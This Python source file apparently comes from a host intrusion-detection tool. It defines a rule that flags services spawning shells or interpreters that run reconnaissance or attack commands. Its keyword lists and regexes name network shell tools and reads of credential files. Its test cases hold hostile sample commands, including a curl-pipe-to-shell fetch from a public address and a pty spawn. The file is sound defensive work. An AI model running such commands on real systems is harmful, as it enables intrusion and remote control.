# ruff: noqa: S108 — paths on the examined host, not ours.
"""Commands that a web server, database or other service is made to run, by what they do."""

import re
from collections.abc import Iterable, Iterator
from datetime import timedelta

from hemostat.detect.check import HostContext, check, fires, quiet
from hemostat.detect.names import FETCHERS, SHELLS, words
from hemostat.detect.places import hidden_part, is_upload, is_writable_for_all
from hemostat.detect.process_family import Family, is_public, name_values, process_subject
from hemostat.detect.process_programs import is_interpreter, is_relay, is_shell, program
from hemostat.detect.process_services import is_database, is_long, is_service, service_above
from hemostat.model.finding import Claim, Observable, RuleTexts
from hemostat.model.level import Level
from hemostat.model.path import HostPath, name
from hemostat.model.records import Process
from hemostat.model.text import Text
from hemostat.parse.host.shell_text import names_in, programs_in
from hemostat.parse.host.shell_text_observables import addresses_in

TEXTS = RuleTexts(
    title=Text(
        en="A service runs commands as an intruder would", zh="服务进程正在执行疑似入侵者的命令"
    ),
    summary=Text(
        en="Process {pid} (account {account}), was started below the service {service}. What"
        " speaks against it: {reason}. Command: {command}",
        zh="进程 {pid}（账号 {account}）由服务 {service} 派生，可疑之处：{reason}。命令：{command}",
    ),
    benign=Text(
        en="An application that calls programs by design, such as converters or backups; whoever"
        " wrote it knows the command. Nobody's page needs to know who it runs as.",
        zh="部分应用会按设计调用外部程序（如格式转换、备份），开发者应能认出该命令；"
        "但业务页面不需要查询自己以谁的身份运行。",
    ),
)
# Who and where am I: the first questions of whoever got in.
_SELF = words("id whoami uname groups")
_AROUND = words("""
    hostname hostnamectl ifconfig ip netstat ss ps w who last lastlog lscpu nproc env printenv
    crontab getent arp route df mount dmesg lsb_release pwd ls find history
""")
_TELLING = re.compile(
    r"\bcat\s+[^;&|]*/etc/(?:passwd|shadow|sudoers|issue|\S*-?release|crontab|hosts)"
    r"|\bsudo\s+-l\b|\bfind\s+/\S*\s[^;|]*-perm\b|/proc/(?:version|self/environ|1/cgroup)"
)
_TOOLS = (
    _SELF
    | SHELLS
    | FETCHERS
    | words("""
    cat sleep nohup setsid chmod chown chattr base64 xxd nc ncat netcat socat telnet mkfifo mknod
    sudo su ssh scp sshpass dd kill pkill killall useradd usermod chpasswd crontab python python3
    python2 perl ruby openssl whoami netstat ss ps ifconfig ip gcc cc make tcpdump nmap masscan
    curl wget systemctl iptables insmod disown screen tmux ln script stty
""")
)
_CODE = re.compile(r"-[a-zA-Z]*c|-[a-zA-Z]*e|-r|-E|--eval")
# Tools of a language that start helpers of their own so.
_HELPERS = re.compile(
    r"\bmultiprocessing\b|\bloky\b|\bforkserver\b|\bsetuptools\b|\bjoblib\b|\bpip\b|\bray\b"
)
_POWERS = re.compile(
    r"\bsocket\b|\bpty\b|\bsubprocess\b|os\.(?:system|popen|dup2|exec)|\bexec\s*\(|\beval\s*\("
    r"|b64decode|base64_decode|\burllib|\brequests\.|IO::Socket|fsockopen|TCPSocket"
)
_BATCH = re.compile(r"/tmp/(?:hadoop|airflowtmp|spark|yarn|flink|blockmgr|jetty|dask)[^/]*(?:/|$)")
_WORKER = timedelta(minutes=5)


def _process(pid: int, ppid: int, exe: str, *argv: str, **fields: str) -> Process:
    words = argv or (exe,)
    return Process(
        pid=pid,
        ppid=ppid,
        exe=HostPath(exe),
        name=name(words[0])[:15],
        argv=words,
        command=" ".join(words),
        cwd=HostPath(fields["cwd"]) if "cwd" in fields else None,
        account=fields.get("account", "tomcat"),
    )


_JAVA = _process(40, 1, "/opt/tomcat/jre/bin/java", "java", "-jar", "erp.jar")
_POSTGRES = _process(40, 1, "/usr/lib/postgresql/15/bin/postgres", account="postgres")
_SH = "/usr/bin/dash"


@check(
    "linux.process.commands-of-service",
    level=Level.MEDIUM,
    confidence=Level.MEDIUM,
    category="service_shell",
    attack=("T1059.004", "T1505.003"),
    incident_types=("webshell", "web_intrusion", "remote_control"),
    texts=TEXTS,
    next=("keep-evidence", "capture-process", "stop-process-tree", "find-entry"),
    by_hand="ps -o pid,ppid,user,lstart,args --ppid {pid} -p {pid}; ls -l /proc/{pid}/cwd",
    examples=(
        fires(_JAVA, _process(50, 40, _SH, "sh", "-c", "id; whoami; sleep 9", cwd="/opt/tomcat")),
        fires(_JAVA, _process(50, 40, "/usr/bin/bash", "bash", "-c", "./k & wait", cwd="/var/tmp")),
        fires(_POSTGRES, _process(50, 40, _SH, "sh", "-c", "curl http://198.51.100.4/p|sh")),
        fires(
            _process(40, 1, "/usr/bin/python3.11", "gunicorn: worker [shop]", account="www-data"),
            _process(50, 40, _SH, "sh", "-c", "cat /etc/passwd; uname -r", cwd="/srv/shop"),
        ),
        fires(_JAVA, _process(50, 40, "/usr/bin/python3", "python3", "-c", "import pty,os")),
        fires(
            _process(40, 1, "/usr/bin/redis-server", account="redis"),
            _process(50, 40, _SH, "sh", "-c", "/dev/shm/.r/u >/dev/null", cwd="/var/lib/redis"),
        ),
        quiet(_JAVA, _process(50, 40, _SH, "sh", "-c", "soffice --convert-to pdf a", cwd="/tmp")),
        quiet(_JAVA, _process(50, 40, "/usr/bin/bash", "bash", "-c", "id -gn ann && id -Gn ann")),
        quiet(
            _POSTGRES,
            _process(50, 40, _SH, "sh", "-c", "test ! -f /b/1 && cp pg_wal/1 /b/1", cwd="/srv/pg"),
        ),
        quiet(
            _process(40, 1, "/usr/bin/node", "node", "server.js", account="app"),
            _process(50, 40, _SH, "sh", "-c", "node build.js; sleep 3", cwd="/tmp"),
        ),
        quiet(
            _process(40, 1, "/usr/bin/python3.11", "gunicorn: worker [ml]", account="www-data"),
            _process(
                50,
                40,
                "/usr/bin/python3.11",
                "python3",
                "-c",
                "from multiprocessing.spawn import spawn_main",
            ),
        ),
        quiet(
            _process(40, 1, "/usr/sbin/php-fpm8.2", account="www-data"),
            _process(50, 40, _SH, "sh", "-c", "/usr/sbin/sendmail -t -i", cwd="/var/www/html"),
        ),
        quiet(
            _JAVA,
            _process(50, 40, "/usr/bin/bash", "bash", "-c", "java -cp x; sleep 1",
                     cwd="/tmp/hadoop-yarn/nm-local-dir/usercache/a"),
        ),
    ),
)  # fmt: skip
def commands_of_service(processes: Iterable[Process], context: HostContext) -> Iterator[Claim]:
    """A shell or interpreter below a service looks around, works in temporary folders, or stays.

    High for two signs at once. Converters, backups and an application's own scripts are none of
    these; a service of root is asked for the plainest signs only.
    """
    family = Family(processes)
    for process in family.members:
        code = _code(process)
        service = service_above(process, family, may_be_root=True) if code else None
        if service is None or is_service(process) or family.is_build(process):
            continue
        signs = _signs(process, code, context)
        if service.euid == 0 or service.account == "root":
            signs = {key: value for key, value in signs.items() if key in ("around", "program")}
        if not signs or (signs.keys() == {"long"} and not is_database(service)):
            continue
        yield Claim(
            subjects=(process_subject(process), process_subject(service)),
            because=(process, service),
            values=name_values(process)
            | {
                "service": service.name,
                "reason": "; ".join(signs.values()),
            },
            level=Level.HIGH if len(signs) > 1 else None,
            observables=tuple(Observable("ipv4-addr", each) for each in _bare(code)),
            first_seen=process.started,
            scope=process.scope,
        )


def _code(process: Process) -> str:
    """The code of a shell or interpreter's own command line, or a downloader's; else empty."""
    if program(process) in FETCHERS or is_relay(process):
        return process.command
    if not (is_shell(process) or is_interpreter(process)):
        return ""
    for number, word in enumerate(process.argv[1:], start=1):
        if _CODE.fullmatch(word):
            return " ".join(process.argv[number + 1 :])
        if not word.startswith("-"):
            return ""
    return ""


def _signs(process: Process, code: str, context: HostContext) -> dict[str, str]:
    """What speaks against it, by kind, in a word or two."""
    if is_interpreter(process):
        return _of_interpreter(process, code)
    names = {name(each) for each in (*names_in(code), *programs_in(code))}
    found: dict[str, str] = {}
    cwd = str(process.cwd or "/")
    programs = [each for each in programs_in(code, cwd) if _is_loose(each)]
    if programs:
        found["program"] = programs[0]
    if _is_loose(f"{cwd}/x") and not _BATCH.match(cwd) and (programs or names & _TOOLS):
        found["place"] = f"cwd {cwd}"
    if asked := _asked(code, names):
        found["around"] = asked
    if bare := _bare(code):
        found["address"] = bare[0]
    if is_shell(process) and names & _TOOLS and is_long(process, context, _WORKER):
        found["long"] = f"> {_WORKER.seconds // 60} min"
    return found


def _of_interpreter(process: Process, code: str) -> dict[str, str]:
    """Inline code of a script language: with powers over the host, or in a temporary folder."""
    if _HELPERS.search(code):
        return {}
    powers = _POWERS.search(code)
    found = {"code": powers[0]} if powers else {}
    cwd = str(process.cwd or "/")
    if _is_loose(f"{cwd}/x") and not _BATCH.match(cwd):
        found["place"] = f"cwd {cwd}"
    return found


def _is_loose(path: str) -> bool:
    return is_writable_for_all(path) or is_upload(path) or bool(hidden_part(path))


def _asked(code: str, names: set[str]) -> str:
    """What it asks about itself, and one thing more; Java's look-ups of groups ask `id` alone."""
    asked = sorted(names & (_SELF | _AROUND)) + sorted(set(_TELLING.findall(code)))
    is_about_self = bool(names & _SELF or _TELLING.search(code))
    return ", ".join(asked) if is_about_self and len(asked) > 1 else ""


def _bare(code: str) -> tuple[str, ...]:
    """Public addresses that a downloader or relay in the code is given."""
    if not any(re.search(rf"\b{each}\b", code) for each in ("curl", "wget", "nc", "ncat", "tcp")):
        return ()
    return tuple(each for each in addresses_in(code) if is_public(each))
